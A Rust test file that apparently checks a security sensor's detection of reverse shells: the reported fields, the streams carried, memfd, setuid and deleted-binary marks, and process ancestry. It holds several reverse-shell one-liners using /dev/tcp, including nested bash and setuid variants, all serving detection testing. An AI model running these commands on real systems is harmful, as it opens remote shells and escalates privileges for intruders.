//! What a finding says besides who and where: the members that its reader is told to look at.

use anyhow::{Context, Result, ensure};
use sensor_tests::{
    finding::Finding,
    lab::{Lab, REVERSE},
    suite::Case,
};
use serde_json::{Value, json};

const WIRED: &str = "exec 5<>/dev/tcp/$H/$P; $X <&5 >&5 2>&5; true";

/// Demands that the source property at `pointer` is `value`.
fn property(finding: &Finding, pointer: &str, value: &Value) -> Result<()> {
    let (name, rest) = pointer.split_once('/').unwrap_or((pointer, ""));
    let found = finding.property(name).and_then(|found| match rest {
        "" => Some(found),
        rest => found.pointer(&format!("/{rest}")),
    });
    ensure!(
        found == Some(value),
        "sourceProperties {pointer} is {found:?} instead of {value}: {finding}"
    );
    Ok(())
}

fn members(lab: &Lab<'_>) -> Result<()> {
    let mut peer = lab.connected(WIRED, &lab.copy("bash", "updater")?)?;
    let shell = peer.shell()?;
    let finding = lab.finding(peer.ends(), REVERSE)?;
    for (name, value) in [
        ("category", "Execution: Possible Remote Command Execution Detected"),
        ("findingClass", "THREAT"),
    ] {
        ensure!(finding.text(name) == value, "{name} is not {value:?}: {finding}");
    }
    let ends = peer.ends();
    // The names of Google's own finding.
    for (name, value) in [
        ("Dst_Ip", json!(ends.peer.ip())),
        ("Dst_Port", json!(ends.peer.port())),
        ("Src_Ip", json!(ends.host.ip())),
        ("Src_Port", json!(ends.host.port())),
    ] {
        property(&finding, &format!("Reverse_Shell_Stdin_Redirection_{name}"), &value)?;
    }
    property(&finding, "loopbackPeer", &json!(true))?;
    property(&finding, "execution/program", &json!("bash"))?;
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname")?;
    property(&finding, "host/hostname", &json!(host.trim()))?;
    let description = finding.text("description").to_owned();
    for word in [
        "bash",
        &ends.peer.to_string(),
        &shell.pid.to_string(),
        &shell.exe.to_string_lossy(),
    ] {
        ensure!(
            description.contains(word),
            "{word} is not in the description: {description}"
        );
    }
    peer.send("exit\n")?;
    let last = lab.ended(&finding)?;
    // Both are written in UTC and with the same number of digits before the point: they can be compared as text.
    let (created, event) = (last.text("createTime").to_owned(), last.text("eventTime").to_owned());
    ensure!(
        created == finding.text("createTime"),
        "the time of creation changed: {last}"
    );
    ensure!(
        created < event && created.ends_with('Z'),
        "created {created}, and its last event at {event}"
    );
    let duration = last
        .property("durationSeconds")
        .and_then(Value::as_f64)
        .context("no duration")?;
    ensure!(duration > 0.0, "it lasted {duration} s");
    Ok(())
}

/// Which streams the connection carries, for a shell that has them all and for one whose errors go elsewhere.
fn streams(lab: &Lab<'_>) -> Result<()> {
    for (redirections, stderr) in [("<&5 >&5 2>&5", true), ("<&5 >&5", false)] {
        let script = format!("exec 5<>/dev/tcp/$H/$P; exec $X {redirections}");
        let mut peer = lab.connected(&script, std::path::Path::new("/bin/dash"))?;
        peer.id()?;
        let finding = lab.finding(peer.ends(), REVERSE)?;
        for (at, name, carried) in [(0, "stdin", true), (1, "stdout", true), (2, "stderr", stderr)] {
            property(&finding, &format!("streams/{at}/name"), &json!(name))?;
            property(&finding, &format!("streams/{at}/carried"), &json!(carried))?;
        }
        peer.send("exit\n")?;
        lab.ended(&finding)?;
    }
    Ok(())
}

/// A shell from memory, one whose file is gone, one that is set-uid: each says so, and only that.
fn marks(lab: &Lab<'_>) -> Result<()> {
    let copy = lab.copy("dash", "copy")?;
    let memfd = lab.programs.c("memfd.c", &[])?;
    let deleted = lab.programs.c("deleted.c", &[])?.display().to_string();
    let cases = [
        (memfd.as_path(), String::from("exec $X $H $P name /bin/dash"), "memfd"),
        (
            &copy,
            String::from("exec 5<>/dev/tcp/$H/$P; chmod 4755 $X; exec $X -p <&5 >&5"),
            "setuid",
        ),
        (
            &copy,
            format!("exec 5<>/dev/tcp/$H/$P; chmod 755 $X; exec {deleted} $X <&5 >&5"),
            "deleted",
        ),
    ];
    for (program, script, mark) in cases {
        let mut peer = lab.connected(&script, program)?;
        peer.id()?;
        let finding = lab.finding(peer.ends(), REVERSE)?;
        for name in ["memfd", "setuid", "setgid", "deleted"] {
            // A file in memory never had a name.
            if mark != "memfd" || name != "deleted" {
                property(&finding, &format!("execution/{name}"), &json!(name == mark))?;
            }
        }
        peer.send("exit\n")?;
        lab.ended(&finding)?;
    }
    Ok(())
}

/// Who started the shell, upwards: the processes above it, each the parent of the one before.
fn ancestors(lab: &Lab<'_>) -> Result<()> {
    let script = "bash -c 'bash -c \"exec 5<>/dev/tcp/$H/$P; $X <&5 >&5 2>&5; true\"; true'; true";
    let mut peer = lab.connected(script, std::path::Path::new("/bin/dash"))?;
    let shell = peer.shell()?;
    let finding = lab.finding(peer.ends(), REVERSE)?;
    let mut parent = shell.parent;
    for _ in 0..4 {
        let above = sensor_tests::process::Proc::of(parent)?;
        let processes = finding.processes()?;
        let found = processes.iter().find(|process| process.pid == parent);
        let same = found.is_some_and(|found| {
            found.path == above.exe.to_string_lossy() && found.uid == Some(above.uid) && found.args == above.args
        });
        ensure!(same, "{above:?} is missing among the processes: {finding}");
        parent = above.parent;
    }
    peer.send("exit\n")?;
    lab.ended(&finding)?;
    Ok(())
}

pub fn cases() -> Vec<Case> {
    vec![
        Case::new("report::members", &["bash"], members),
        Case::new("report::streams", &["dash"], streams),
        Case::new("report::marks", &["gcc", "dash"], marks),
        Case::new("report::ancestors", &["bash", "dash"], ancestors),
    ]
}
